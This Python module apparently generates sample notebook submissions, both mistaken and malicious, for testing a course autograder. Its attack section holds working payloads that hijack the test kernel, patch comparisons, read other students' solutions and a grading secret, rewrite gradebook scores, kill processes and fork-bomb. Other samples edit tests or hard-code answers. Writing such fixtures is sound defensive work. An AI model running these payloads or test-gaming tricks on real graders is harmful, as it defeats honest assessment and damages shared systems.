"""Sample submissions, derived from source/ and release/ so they stay in sync with the assignments.

Each sample student is one way a submission can go right or wrong, attacks on the grader included;
`write_submissions` lays them out as nbgrader's submitted/<student>/<assignment>/<notebook>.ipynb. A
student's assignments not named in its variants are the correct solution. EXPECTED holds the scores the
grader must give (the tests and `python -m hwopt.course.grading demo` check them); for a sample of
ID_DEPENDENT its score depends on the id it is graded under, and EXPECTED holds it for the sample's own name
only (a class demo, whose ids are student01..., does not check it).
"""

from __future__ import annotations

import ast
import copy
import json
import re
from collections.abc import Callable
from pathlib import Path

import nbformat

from hwopt.course import quiz
from hwopt.course.grading import course, settings

ATTACKED = ("batching", "bandwidth_precision", "latency_budget", "quiz")  # the attack samples target these
SOLUTION_MARKERS = re.compile(r"^\s*### (BEGIN|END) SOLUTION\s*$")


def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


QUIZ_KEY = "autograder/quiz_answers.json"  # the quiz's answer key: never in source/ or release/
SAMPLE_ID = "instructor"  # the id a solved quiz is written for when no student id is given


def quiz_solution(student_id: str, root: Path = course.ROOT) -> dict[str, str]:
    """The quiz's solution cells as student_id types them: that id, and the right letter of each question."""
    bank = quiz.load_bank(root / "source" / "quiz" / "question_bank.json")
    right = quiz.AnswerKey(root / QUIZ_KEY).letters(bank, student_id)
    return {"student_id": f"STUDENT_ID = {student_id!r}", "answers": f"answers = {right!r}"}


def _first_formula(bank: dict, posed: dict) -> str:
    """The letter of the shown choice that the bank's first formula gives (a student can compute it)."""
    question = next(q for q in bank["questions"] if q["id"] == posed["id"])
    value = quiz.evaluate(question["choices"][0], posed["parameters"])
    return quiz.LETTERS[posed["choices"].index(f"{quiz.shown(value)} {question['unit']}".strip())]


# How a student who knows nothing guesses a posed question (bank, posed question -> letter).
GUESSES = {
    "first choice": lambda bank, posed: "a",
    "longest choice": lambda bank, posed: quiz.LETTERS[max(range(4), key=lambda i: len(posed["choices"][i]))],
    "first formula, else longest": lambda bank, posed: (
        _first_formula(bank, posed) if posed["parameters"] else GUESSES["longest choice"](bank, posed)),
}


def quiz_guess(student_id: str, strategy: str, root: Path = course.ROOT) -> dict[str, str]:
    """The answers student_id's quiz gets from one of GUESSES, reading only what the student sees."""
    bank = quiz.load_bank(root / "source" / "quiz" / "question_bank.json")
    return {posed["id"]: GUESSES[strategy](bank, posed) for posed in quiz.draw(bank, student_id)}


def solved(assignment: str, root: Path = course.ROOT, student_id: str = SAMPLE_ID):
    """What a student who solved everything submits: the release notebook with the solutions typed in.

    The quiz's solution depends on who answers it (each student draws their own questions): it is written
    for student_id, the id the submission is graded under.
    """
    answers = {_grade_id(c): c.source for c in course.load_notebook("source", assignment, root).cells
               if c.metadata.get("nbgrader", {}).get("solution")}
    if assignment == "quiz":
        answers = quiz_solution(student_id, root)
    nb = course.load_notebook("release", assignment, root)
    for cell in nb.cells:
        if _grade_id(cell) in answers:
            cell.source = "\n".join(line for line in answers[_grade_id(cell)].split("\n")
                                    if not SOLUTION_MARKERS.match(line))
    return nb


def cell(nb, grade_id: str):
    """The cell with this nbgrader grade_id."""
    return next(c for c in nb.cells if _grade_id(c) == grade_id)


def edit(nb, grade_id: str, old: str, new: str):
    """Replace text in one cell (the text must be there: samples break loudly when a notebook changes)."""
    target = cell(nb, grade_id)
    if old not in target.source:
        raise ValueError(f"{grade_id}: {old!r} not found; update hwopt/course/grading/samples.py")
    target.source = target.source.replace(old, new)
    return nb


# ---- the variants: (assignment, release, solved) -> notebook | bytes (a broken file) | None (no file) ----

def v_correct(a, release, good):
    return good


def v_blank(a, release, good):
    return release


def v_wrong(a, release, good):
    if a == "latency_budget":  # "<" instead of "<=", and the last duplicate instead of the worst
        edit(good, "largest_batch", "latency_ms <= budget_ms", "latency_ms < budget_ms")
        return edit(good, "largest_batch", "max(latency_ms, worst.get(batch_size, latency_ms))", "latency_ms")
    if a == "quiz":  # three wrong answers, one letter on: the draw's 1st, 3rd and 5th (cells 1, 2 and 3)
        c = cell(good, "answers")
        right = ast.literal_eval(c.source.removeprefix("answers = "))
        for qid in list(right)[0:6:2]:
            right[qid] = "abcd"[("abcd".index(right[qid]) + 1) % 4]
        c.source = f"answers = {right!r}"
        return good
    if a == "batching":  # the relative fit weighted by 1 / latency, not 1 / latency**2 (squared residuals)
        return edit(good, "fit", "1 / latency_ms**2 if relative", "1 / latency_ms if relative")
    if a == "bandwidth_precision":  # model size in GiB (2**30 bytes) where GB (1e9 bytes) was asked
        return edit(good, "model_size", "BYTES_PER_WEIGHT[precision] / 1e9",
                    "BYTES_PER_WEIGHT[precision] / 2**30")
    if a == "roofline":  # GEMM bytes without the write of C
        return edit(good, "op_cost", "elements = m * k + k * n + m * n", "elements = m * k + k * n")
    if a == "fusion":  # unfused bytes count each op's reads but not its write
        return edit(good, "unfused", 'tensors += len(set(op["inputs"])) + 1',
                    'tensors += len(set(op["inputs"]))')
    if a == "quantize":  # symmetric qmax = 2^(b-1): 16 levels for int4 (-8..8 clipped, scale max/8)
        return edit(good, "quantize_block", "qmax = 2 ** (bits - 1) - 1", "qmax = 2 ** (bits - 1)")
    if a == "profiling":  # an event's category from its own fields: the DataLoader's operators not loading
        return edit(good, "categories", "        if in_data(i):", "        if is_data(e):")
    if a == "memory_kv":  # plans with the whole memory: the headroom forgotten
        return edit(good, "largest", "usable = memory_gib * GIB * (1 - headroom)",
                    "usable = memory_gib * GIB")
    if a == "serving_queue":  # a batch starts when it is ready, without waiting for the batch before to end
        return edit(good, "simulate", "start = max(free_at, min(full_at, arrivals_ms[first] + max_wait_ms))",
                    "start = min(full_at, arrivals_ms[first] + max_wait_ms)")
    if a == "beyond_one_chip":  # the KV cache split over every chip, as if there were a KV head for each
        return edit(good, "memory", 'bytes_per_value / min(tp, model["n_kv_heads"]) / 1e9',
                    "bytes_per_value / tp / 1e9")
    if a == "continuous_batching":  # prompt chunks scheduled before the decodes, which get what is left
        return edit(good, "step", CONTINUOUS_BATCHING_DECODES_FIRST, CONTINUOUS_BATCHING_PREFILLS_FIRST)
    if a == "kv_paging":  # a finished sequence's blocks go back to the pool at once, shared or not
        return edit(good, "replay", "        for block in tables.pop(seq):\n            release(block)",
                    "        free.extend(tables.pop(seq))")
    if a == "quantize_layer":  # torch's Cholesky factor is the lower one: row j of L is 0 past j, nothing is
        # passed on and GPTQ is RTN
        return edit(good, "gptq", "torch.linalg.cholesky(torch.linalg.inv(h), upper=True)",
                    "torch.linalg.cholesky(torch.linalg.inv(h))")
    if a == "speculative_decoding":  # no bonus token: a step yields at most its guesses, the target corrects
        edit(good, "speculative", "m = min(k, n_new - (len(ids) - start) - 1)",
             "m = min(k, n_new - (len(ids) - start))")
        return edit(good, "speculative", 'ids += guesses[:step["accepted"]] + [step["next_token"]]',
                    'ids += guesses[:step["accepted"]]\n        if step["accepted"] < m:\n'
                    '            ids.append(step["next_token"])')
    if a == "number_formats":  # rounds half away from zero (school rounding), not half to even
        return edit(good, "fp8", "np.rint(magnitude / spacing)", "np.floor(magnitude / spacing + 0.5)")
    return good


def v_quantize_layer_slip(a, release, good):
    if a == "quantize_layer":  # one scale per output row (the row's max), as per-channel int8 does
        return edit(good, "rtn", "scales = groups.abs().amax(dim=2) / 7",
                    "scales = groups.abs().amax(dim=(1, 2))[:, None].expand(out, n // group_size) / 7")
    return good


CONTINUOUS_BATCHING_DECODES_FIRST = """\
    for seq in running:  # 1. every decoding sequence: one token
        if seq["prompt_left"] == 0:
            step[seq["id"]] = 1
            budget -= 1
    for seq in running:  # 2. prompts in flight, oldest first: a chunk each while the budget lasts
        if seq["prompt_left"] > 0 and budget > 0:
            step[seq["id"]] = min(seq["prompt_left"], budget)
            budget -= step[seq["id"]]
"""
CONTINUOUS_BATCHING_PREFILLS_FIRST = """\
    for seq in running:  # prompts in flight first, oldest first: a chunk each while the budget lasts
        if seq["prompt_left"] > 0 and budget > 0:
            step[seq["id"]] = min(seq["prompt_left"], budget)
            budget -= step[seq["id"]]
    for seq in running:  # then each decoding sequence the budget still holds: one token
        if seq["prompt_left"] == 0 and budget > 0:
            step[seq["id"]] = 1
            budget -= 1
"""


def v_memory_kv_slip(a, release, good):
    if a == "memory_kv":  # the KV cache counted with the query heads: right for MHA, 4-8x too big for GQA
        return edit(good, "kv_cache", "shape.n_kv_heads", "shape.n_heads")
    return good


def v_serving_queue_slip(a, release, good):
    if a == "serving_queue":  # the capacity as the highest rate that meets the SLO, lighter loads unchecked
        return edit(good, "capacity", "break  # a lighter load already misses: no heavier one counts",
                    "continue  # a rate that misses is skipped")
    return good


def v_beyond_one_chip_slip(a, release, good):
    if a == "beyond_one_chip":  # the ring all-reduce sends each byte once: (p - 1)/p, not 2 (p - 1)/p
        return edit(good, "allreduce", "+ 2 * (n_chips - 1) / n_chips * message_bytes",
                    "+ (n_chips - 1) / n_chips * message_bytes")
    return good


def v_continuous_batching_slip(a, release, good):
    if a == "continuous_batching":  # a chunked prompt's first token counted when its first chunk runs
        return edit(good, "simulate", """\
                seq["prompt_left"] -= step[i]
                if seq["prompt_left"] == 0:  # the last chunk's logits give the first token
                    made[i] += 1
                    first_ms[i] = now
""", """\
                if seq["prompt_left"] == requests[i]["prompt_len"]:  # the prompt's first chunk
                    first_ms[i] = now
                seq["prompt_left"] -= step[i]
                if seq["prompt_left"] == 0:
                    made[i] += 1
""")
    return good


def v_kv_paging_slip(a, release, good):
    if a == "kv_paging":  # no copy-on-write: a sequence writes into the partly filled block it shares
        edit(good, "replay", "return lengths[seq] % block_size == 0 or refs[tables[seq][-1]] > 1",
             "return lengths[seq] % block_size == 0")
        return edit(good, "replay", "elif refs[table[-1]] > 1:", "elif False:")
    return good


def v_speculative_decoding_slip(a, release, good):
    if a == "speculative_decoding":  # accepts every guess the target agrees with, even after a disagreement
        return edit(good, "verify", "    accepted = 0\n    while accepted < len(guesses) and "
                    "guesses[accepted] == choices[accepted]:\n        accepted += 1\n",
                    "    accepted = sum(guess == choice for guess, choice in zip(guesses, choices))\n")
    return good


def v_number_formats_slip(a, release, good):
    if a == "number_formats":  # E4M3 read as IEEE-style (top exponent kept for inf/NaN): largest 240, not 448
        return edit(good, "fp8", 'LARGEST = {"E4M3": 448.0,', 'LARGEST = {"E4M3": 240.0,')
    return good


def v_quiz_slip(a, release, good):
    if a == "quiz":  # a classmate's id and answers copied: graded on this student's own draw
        return solved(a, course.ROOT, "a classmate")
    return good


def v_quiz_guess(a, release, good):
    if a == "quiz":  # no knowledge: the first formula of a numeric question, else the longest choice
        guessed = quiz_guess(_graded_id(good), "first formula, else longest")
        cell(good, "answers").source = f"answers = {guessed!r}"
    return good


def _graded_id(nb) -> str:
    """The id a solved quiz notebook was written for (its STUDENT_ID cell)."""
    return ast.literal_eval(cell(nb, "student_id").source.removeprefix("STUDENT_ID = "))


def v_batching_slip(a, release, good):
    if a == "batching":  # the knee rounded down: a batch just short of the fraction
        return edit(good, "knee", "max(1, math.ceil(", "max(1, math.floor(")
    return good


def v_bandwidth_precision_slip(a, release, good):
    if a == "bandwidth_precision":  # tries the precisions from int4 up: the lowest that is fast enough
        return edit(good, "precision_for_target", 'for precision in ("fp32", "fp16", "int8", "int4"):',
                    'for precision in ("int4", "int8", "fp16", "fp32"):')
    return good


def v_quantize_slip(a, release, good):
    if a == "quantize":  # dequantizes without the zero point: code * scale
        return edit(good, "dequantize", "(codes[r][c] - zero_point) * scale", "codes[r][c] * scale")
    return good


def v_profiling_slip(a, release, good):
    if a == "profiling":  # Amdahl with the fraction inverted: 1 / (f + (1 - f) / s)
        return edit(good, "amdahl", "(1 - fraction) + fraction / local_speedup",
                    "fraction + (1 - fraction) / local_speedup")
    return good


def v_roofline_slip(a, release, good):
    if a == "roofline":  # a kernel's compute and memory times added up, as if they could not overlap
        return edit(good, "on_chip", 'time_s = max(cost["flop"] / peak_flops, cost["bytes"] / bytes_per_s)',
                    'time_s = cost["flop"] / peak_flops + cost["bytes"] / bytes_per_s')
    return good


def v_fusion_slip(a, release, good):
    if a == "fusion":  # fuses across a node whose output feeds two consumers
        return edit(good, "groups", "if both_elementwise and len(consumers[producer]) == 1:",
                    "if both_elementwise:")
    return good


def v_raises(a, release, good):
    if a == "batching":  # the misses part raises, the rest is right
        return edit(good, "misses", "    return sorted(b for b",
                    "    raise RuntimeError('not finished')\n    return sorted(b for b")
    return good


def v_infinite_loop(a, release, good):
    if a == "latency_budget":  # searches downward for a batch that fits and never stops when none does
        return edit(good, "largest_batch", "    if not fitting:\n        return None, 0.0",
                    "    while not fitting:\n        pass")
    return good


def v_sigint_loop(a, release, good):
    if a == "latency_budget":  # the same, and the loop ignores the interrupt (Ctrl-C)
        return edit(good, "largest_batch", "    if not fitting:\n        return None, 0.0",
                    "    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "    while not fitting:\n        pass")
    return good


def v_edited_tests(a, release, good):
    if a == "latency_budget":  # wrong code, tests edited to pass, one test deleted, points inflated
        edit(good, "largest_batch", "latency_ms <= budget_ms", "latency_ms < budget_ms")
        cell(good, "test_on_budget").source = "pass  # tests are for other people"
        cell(good, "test_fits").metadata["nbgrader"]["points"] = 100
        cell(good, "test_fits").metadata["nbgrader"]["locked"] = False
        good.cells = [c for c in good.cells if _grade_id(c) != "test_non_monotonic"]
    return good


def v_hardcoded(a, release, good):
    if a == "latency_budget":  # answers typed in for the visible examples only
        cell(good, "largest_batch").source = '''\
def largest_batch_within_budget(batch_sizes, latencies_ms, budget_ms):
    known = {30: (16, 640.0), 100: (64, 800.0), 5: (None, 0.0), 43: (32, 32 / 0.043), 10: (4, 500.0),
             20: (1, 1000 / 9)}
    if budget_ms <= 0 or len(batch_sizes) != len(latencies_ms):
        raise ValueError("budget_ms batch_sizes latencies_ms")
    return known.get(budget_ms, (None, 0.0))'''
    return good


def v_stderr(a, release, good):
    if a == "batching":  # correct, and noisy on stderr (warnings module and plain prints)
        return edit(good, "fit", "def fit_batch_latency(batch_sizes, latencies_ms, relative=False):\n",
                    "def fit_batch_latency(batch_sizes, latencies_ms, relative=False):\n"
                    "    import sys, warnings\n"
                    "    warnings.warn('this function is deprecated', DeprecationWarning)\n"
                    "    warnings.warn('a user warning')\n"
                    "    print('Warning: fitting a line', file=sys.stderr)\n")
    return good


def v_memory_hog(a, release, good):
    if a == "bandwidth_precision":  # Part 3 "loads" the model to check it: 14+ GB, page by page
        return edit(good, "chip_tokens", "def chip_tokens_per_s(chip_name, n_params, precision):\n",
                    "def chip_tokens_per_s(chip_name, n_params, precision):\n"
                    "    import numpy as np\n"
                    "    weights = np.ones(int(n_params), dtype=np.float16)  # touches every page\n"
                    "    del weights\n")
    return good


def v_invalid_json(a, release, good):
    if a == "quiz":
        return nbformat.writes(good).encode()[:1500]  # an interrupted upload
    return good


def v_missing(a, release, good):
    return None if a == "latency_budget" else good


def v_colab(a, release, good):
    if a == "latency_budget":  # File > Download .ipynb from Colab: nbformat 4.0, Colab's metadata, outputs
        return colab_download(good)
    return good


def v_stripped(a, release, good):
    if a == "latency_budget":  # every cell lost its nbgrader metadata (e.g. cells copied into a new notebook)
        for c in good.cells:
            c.metadata = {}
    return good


# ---- attacks: what a student after the points without the work tries (each must gain nothing) ----------

def _solution_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]


def _names(source: str) -> list[str]:
    """What a solution cell must define: its functions and answer variables."""
    return re.findall(r"^def (\w+)", source, re.M) + re.findall(r"^(\w+_answer)\s*=", source, re.M)


def _everywhere(nb, code: str):
    """Put code at the top of every solution cell (keeping the cell's own text after it)."""
    for c in _solution_cells(nb):
        c.source = code + "\n" + c.source
    return nb


OWNED = '"PW" + "NED"'  # what the attacks write; spelled so that the notebooks themselves never contain it

TRANSFORMER = """\
# Every later cell does nothing, so every test "passes".
_ip = get_ipython()
_ip.input_transformers_post.append(lambda lines: ["pass\\n"])
_ip.events.register("pre_run_cell", lambda *args: None)
"""

ANYTHING = """\
import math, numpy


class _Anything(float):
    \"\"\"Equal to everything, and everything about it is itself.\"\"\"
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = float.__hash__
    __getitem__ = __getattr__ = __call__ = lambda self, *args, **kwargs: self
    __len__ = lambda self: 2
    def __iter__(self):
        return iter((self, self))
    def tolist(self):
        return self


math.isclose = numpy.isclose = numpy.allclose = lambda *args, **kwargs: True
"""

TOOLKIT = """\
import importlib, pkgutil, hwopt


def _from_toolkit(name):
    \"\"\"The graded function, if the toolkit has one of that name (in any module).\"\"\"
    for module in pkgutil.walk_packages(hwopt.__path__, "hwopt."):
        try:
            found = getattr(importlib.import_module(module.name), name, None)
        except Exception:
            continue
        if found is not None:
            return found
    raise ImportError(name)
"""

READ_SOURCE = f"""\
import json, os, pathlib
import hwopt


def _steal():
    \"\"\"Run the solutions of any instructor or classmate notebook this kernel can read.\"\"\"
    here = pathlib.Path.cwd()
    roots = {{*here.parents, here, pathlib.Path(hwopt.__file__).resolve().parents[1], pathlib.Path.home()}}
    for root in roots:
        for pattern in ("source/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
            try:
                notebooks = list(root.glob(pattern))
            except OSError:
                continue
            for path in notebooks:
                if path.parent == here:  # its own notebook
                    continue
                try:
                    cells = json.loads(path.read_text())["cells"]
                except Exception:
                    continue
                for cell in cells:
                    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                        try:
                            exec("".join(cell["source"]), globals())
                        except Exception:
                            pass
    for secret in (os.environ.get({settings.SECRET.name!r}), pathlib.Path({settings.SECRET_FILE.default!r})):
        try:
            print("secret:", pathlib.Path(secret).expanduser().read_text() if secret else None)
        except Exception:
            pass


_steal()
"""

WRITE_FILES = f"""\
import glob, os, pathlib, sqlite3
import hwopt

_owned = {OWNED}
_here = pathlib.Path.cwd()
_roots = {{*_here.parents, pathlib.Path(hwopt.__file__).resolve().parents[1]}}
for _root in _roots:
    for _db in _root.glob("gradebook.db"):  # full marks for me, zero for everyone else
        try:
            with sqlite3.connect(_db) as _con:
                _con.execute("UPDATE grade SET manual_score = 999")
        except Exception:
            pass
    for _pattern in ("*", "source/*/*", "submitted/*/*/*", "autograded/*/*/*", "release/*/*"):
        for _target in glob.glob(str(_root / _pattern)):
            try:
                if os.path.isdir(_target):
                    pathlib.Path(_target, "owned.txt").write_text(_owned)
                elif _target.endswith(".ipynb"):
                    with open(_target, "a") as _f:
                        _f.write(_owned)
            except OSError:
                pass
"""

SIGNAL = """\
import os, signal

for _sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):  # the grading process, then everyone else
    try:
        os.kill(os.getppid(), _sig)
    except OSError:
        pass
_mine = {int(tid) for tid in os.listdir("/proc/self/task")}  # this kernel's own threads
for _pid in range(2, 2**15):
    if _pid not in _mine:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
"""

FLOOD = """\
print("x" * 64_000_000)  # 64 MB into the stored notebook and the feedback
"""

FORK_BOMB = """\
import os, time

for _ in range(100_000):  # until the process limit says no; the children sleep for an hour
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError:
        break
"""


def v_transformer(a, release, good):  # no solution: the first cell empties every later cell
    _solution_cells(release)[0].source = TRANSFORMER
    return release


def v_equals_anything(a, release, good):  # no solution: every answer equals anything, comparisons patched
    for c in _solution_cells(release):
        names = _names(next(s.source for s in _solution_cells(good) if _grade_id(s) == _grade_id(c)))
        c.source = ANYTHING + "".join(
            f"{n} = _Anything()\n" if n.endswith("_answer") else f"\n\ndef {n}(*args, **kwargs):\n"
            "    return _Anything()\n" for n in names)
    return release


def v_toolkit(a, release, good):  # no solution: the graded functions imported from the toolkit
    for c in _solution_cells(release):
        names = _names(next(s.source for s in _solution_cells(good) if _grade_id(s) == _grade_id(c)))
        imports = [f"{n} = _from_toolkit({n!r})\n" for n in names if not n.endswith("_answer")]
        c.source = TOOLKIT + "".join(imports)
    return release


ROOFLINE_ADAPTER = {  # roofline's graded functions as glue around the toolkit's roofline module
    "op_cost": """\
from hwopt import roofline as _roofline


def op_cost(op, shape, bytes_per_element):
    if op == "gemm":
        flop, n_bytes = _roofline.flops_bytes_gemm(shape["m"], shape["n"], shape["k"],
                                                   bytes_per_element=bytes_per_element)
    elif op == "gemv":
        flop, n_bytes = _roofline.flops_bytes_gemv(
            shape["rows"], shape["cols"], bytes_per_weight=bytes_per_element,
            bytes_per_activation=bytes_per_element)
    elif op == "elementwise":
        flop, n_bytes = _roofline.flops_bytes_elementwise(
            shape["n_elements"], n_inputs=shape["n_inputs"], flops_per_element=shape["flop_per_element"],
            bytes_per_element=bytes_per_element)
    else:
        flop, n_bytes = _roofline.flops_bytes_attention_decode(
            shape["seq_len"], shape["head_dim"], shape["n_heads"], n_kv_heads=shape["n_kv_heads"],
            bytes_per_element=bytes_per_element)
    return {"flop": flop, "bytes": n_bytes, "intensity": flop / n_bytes}
""",
    "on_chip": """\
def kernel_on_chip(op, shape, chip_name, precision):
    peak_flops, bandwidth_gbs = chip_roof(chip_name, precision)
    cost = op_cost(op, shape, BYTES_PER_ELEMENT[precision])
    return {"intensity": cost["intensity"],
            "bound": _roofline.bound(cost["intensity"], peak_flops, bandwidth_gbs),
            "attainable_flops": _roofline.attainable_flops(cost["intensity"], peak_flops, bandwidth_gbs),
            "time_us": _roofline.time_s(cost["flop"], cost["bytes"], peak_flops, bandwidth_gbs) * 1e6}
""",
    "crossover": """\
def compute_bound_batch(k, n, chip_name, precision, max_batch_size):
    ridge = _roofline.ridge_point(*chip_roof(chip_name, precision))
    for b in range(1, max_batch_size + 1):
        if _roofline.intensity_gemm(b, n, k, BYTES_PER_ELEMENT[precision]) >= ridge:
            return b
    return None
""",
}


MEMORY_KV_ADAPTER = {  # the KV cache through the toolkit's footprint, its bytes rescaled
    "kv_cache": """\
from hwopt.cost import footprint as _footprint


def kv_cache_size(shape, batch_size, context_len, kv_bytes):
    return _footprint.kv_cache_bytes(shape, batch_size, context_len, "fp32") / 4 * kv_bytes
""",
}
SWEEP = """\
from hwopt.cost import batching as _batching
from hwopt.machine import bench as _bench


def _sweep(batch_sizes, latencies_ms):
    try:
        timings = tuple(_bench.Measurement("", (ms / 1000,)) for ms in latencies_ms)
    except ValueError as err:  # the toolkit names its own argument
        raise ValueError(str(err).replace("times_s", "latencies_ms")) from None
    return _batching.BatchSweep(tuple(batch_sizes), timings)
"""  # a table of (batch size, latency) as the toolkit's measured sweep, one timing per size, errors renamed

BATCHING_ADAPTER = {  # the toolkit's fit, its line's throughput and its verdict on where the line misses
    "fit": SWEEP + """

def fit_batch_latency(batch_sizes, latencies_ms, relative=False):
    fit = _batching.fit_latency_model(batch_sizes, latencies_ms, relative=relative)
    return {"overhead_ms": fit.overhead_ms, "per_item_ms": fit.per_item_ms}
""",
    "knee": """\
import numpy as _np


def knee_batch_size(overhead_ms, per_item_ms, fraction):
    fit = _batching.LatencyFit(overhead_ms, per_item_ms, 0.0, 0.0)
    sizes = _np.arange(1, 10**6)
    return int(sizes[_np.argmax(sizes / fit.latency_ms(sizes) * 1000 >= fraction * fit.max_items_per_s)])
""",
    "misses": r"""
import re as _re


def fit_misses(batch_sizes, latencies_ms, overhead_ms, per_item_ms, tolerance):
    fit = _batching.LatencyFit(overhead_ms, per_item_ms, 0.0, 0.0)
    verdict = _batching.fit_verdict(fit, _sweep(batch_sizes, latencies_ms), tolerance)
    return sorted(int(b) for b in _re.findall(r"batch (\d+): [^;()]*? ms measured", verdict))
""",
}

LATENCY_BUDGET_ADAPTER = {  # the toolkit's sweep answers "largest within", its latency model the table
    "largest_batch": SWEEP + """

def largest_batch_within_budget(batch_sizes, latencies_ms, budget_ms):
    return _sweep(batch_sizes, latencies_ms).largest_within(budget_ms)
""",
    "for_model": """\
def largest_batch_for_model(overhead_ms, per_item_ms, budget_ms, max_batch_size=1024):
    sizes = range(1, max_batch_size + 1)
    latencies_ms = [_batching.batch_latency_ms(b, overhead_ms, per_item_ms) for b in sizes]
    return largest_batch_within_budget(sizes, latencies_ms, budget_ms)
""",
}

BANDWIDTH_PRECISION_ADAPTER = {  # lesson 2's size and speed estimates, the precision's bytes from lesson 4
    "model_size": """\
from hwopt.experiments import decode as _decode
from hwopt.experiments import precision as _precision


def model_size_gb(n_params, precision):
    if precision not in BYTES_PER_WEIGHT:
        raise ValueError(f"precision must be one of {sorted(BYTES_PER_WEIGHT)}")
    return _decode.weights_gb(n_params, _precision.bytes_per_weight(precision))
""",
    "tokens": """\
def decode_tokens_per_s(n_params, precision, bandwidth_gbs):
    return _decode.tokens_per_s_estimate(n_params, _precision.bytes_per_weight(precision), bandwidth_gbs)
""",
    "chip_tokens": """\
def chip_tokens_per_s(chip_name, n_params, precision):
    return decode_tokens_per_s(n_params, precision, get_chip(chip_name).bandwidth_gbs)
""",
}

FUSION_ADAPTER = {  # a chain as the toolkit's (ops, extra inputs) chain: its passes, bytes and time
    "unfused": """\
from hwopt.experiments import fusion as _fusion


def bytes_unfused(chain, n_elements, bytes_per_element):
    extra_inputs = sum(len(set(op["inputs"])) for op in chain) - len(chain)
    return _fusion.bytes_moved(n_elements, fused=False, n_ops=len(chain), extra_inputs=extra_inputs,
                               bytes_per_element=bytes_per_element)
""",
    "fused": """\
def bytes_fused(chain, n_elements, bytes_per_element):
    external = {name for op in chain for name in op["inputs"]} - {op["name"] for op in chain}
    return _fusion.bytes_moved(n_elements, fused=True, n_ops=len(chain), extra_inputs=len(external) - 1,
                               bytes_per_element=bytes_per_element)
""",
    "times": """\
def predicted_times(chain, n_elements, bytes_per_element, bandwidth_gbs):
    unfused_us = _fusion.predicted_time_ms(bytes_unfused(chain, n_elements, bytes_per_element),
                                           bandwidth_gbs) * 1000
    fused_us = _fusion.predicted_time_ms(bytes_fused(chain, n_elements, bytes_per_element),
                                         bandwidth_gbs) * 1000
    return {"unfused_us": unfused_us, "fused_us": fused_us, "speedup": unfused_us / fused_us}
""",
}

QUANTIZE_ADAPTER = {  # the toolkit's quantizer on a bit width, its arrays unpacked into lists
    "quantize_block": """\
import numpy as _np

from hwopt import quantization as _quantization


def _check(bits, granularity="per_tensor", group_size=1):  # the assignment's rules; the toolkit's are wider
    if isinstance(bits, bool) or not isinstance(bits, int) or not 2 <= bits <= 8:
        raise ValueError(f"bits must be an integer from 2 to 8, got {bits!r}")
    if granularity not in ("per_tensor", "per_channel", "per_group"):
        raise ValueError(f"granularity must be per_tensor, per_channel or per_group, got {granularity!r}")
    if granularity == "per_group" and (isinstance(group_size, bool) or not isinstance(group_size, int)
                                       or group_size < 1):
        raise ValueError(f"group_size must be a positive integer with per_group, got {group_size!r}")


def quantize_block(values, bits, symmetric):
    _check(bits)
    codes, scales, zero_points = _quantization.quantize(_np.asarray(values, float), bits,
                                                        symmetric=symmetric).numpy()
    return {"codes": codes.tolist(), "scale": float(scales.flat[0]),
            "zero_point": 0 if zero_points is None else int(zero_points.flat[0])}
""",
    "quantize_matrix": """\
def _quantized(weights, bits, symmetric, granularity, group_size):
    _check(bits, granularity, group_size)
    if not weights or not weights[0] or any(len(row) != len(weights[0]) for row in weights):
        raise ValueError("weights must be a non-empty list of rows of the same length")
    block = group_size if granularity == "per_group" else None
    return _quantization.quantize(_np.asarray(weights, float), bits, block=block, symmetric=symmetric,
                                  per_channel=granularity == "per_channel")


def quantize_matrix(weights, bits, symmetric, granularity, group_size=None):
    codes, scales, zero_points = _quantized(weights, bits, symmetric, granularity, group_size).numpy()
    return {"codes": codes.tolist(), "scales": scales.ravel().tolist(),
            "zero_points": [0] * scales.size if zero_points is None else zero_points.ravel().tolist()}
""",
    "dequantize": """\
def dequantize_matrix(codes, scales, zero_points, granularity, group_size=None):
    codes = _np.asarray(codes, float)
    block = {"per_tensor": 0, "per_channel": codes.shape[1], "per_group": group_size}[granularity]
    per_block = (1, 1) if block == 0 else (len(codes), -1)
    return _quantization.Quantized(codes, _np.reshape(scales, per_block), _np.reshape(zero_points, per_block),
                                   1.0, None, block, 1, _np.float64).dequantize().tolist()
""",
    "error": """\
def round_trip_error(weights, bits, symmetric, granularity, group_size=None):
    errors = _np.asarray(weights, float) - _quantized(weights, bits, symmetric, granularity,
                                                      group_size).dequantize()
    return {"max_abs_error": float(_np.abs(errors).max()), "rms_error": float(_np.sqrt((errors**2).mean()))}
""",
}

SERVING_QUEUE_ADAPTER = {  # the toolkit's simulator and p99, its random arrivals replaced by the given ones
    "simulate": """\
import numpy as _np

from hwopt.cost import serving as _serving


def _simulated(arrivals_ms, max_batch_size, max_wait_ms, overhead_ms, per_item_ms):
    draw = _serving.arrivals_ms
    _serving.arrivals_ms = lambda *args: _np.asarray(arrivals_ms, float)
    try:
        return _serving.simulate_dynamic_batching(1000, max_batch_size, max_wait_ms, overhead_ms, per_item_ms,
                                                  n_requests=len(arrivals_ms))
    finally:
        _serving.arrivals_ms = draw


def end_to_end_latencies_ms(arrivals_ms, max_batch_size, max_wait_ms, overhead_ms, per_item_ms):
    stats = _simulated(arrivals_ms, max_batch_size, max_wait_ms, overhead_ms, per_item_ms)
    return stats.latencies_ms.tolist()
""",
    "capacity": """\
def p99_at_rate_ms(rate_per_s, max_batch_size, max_wait_ms, overhead_ms, per_item_ms, n_requests, seed):
    arrivals_ms = poisson_arrivals_ms(rate_per_s, n_requests, seed)
    return _simulated(arrivals_ms, max_batch_size, max_wait_ms, overhead_ms, per_item_ms).p99_ms
""",
}

BEYOND_ONE_CHIP_ADAPTER = {  # the toolkit's TP memory on the model's shape, its ring all-reduce and MoE
    "memory": """\
from hwopt.cost import footprint as _footprint
from hwopt.cost import tensor_parallel as _tensor_parallel
from hwopt.experiments import decode as _decode


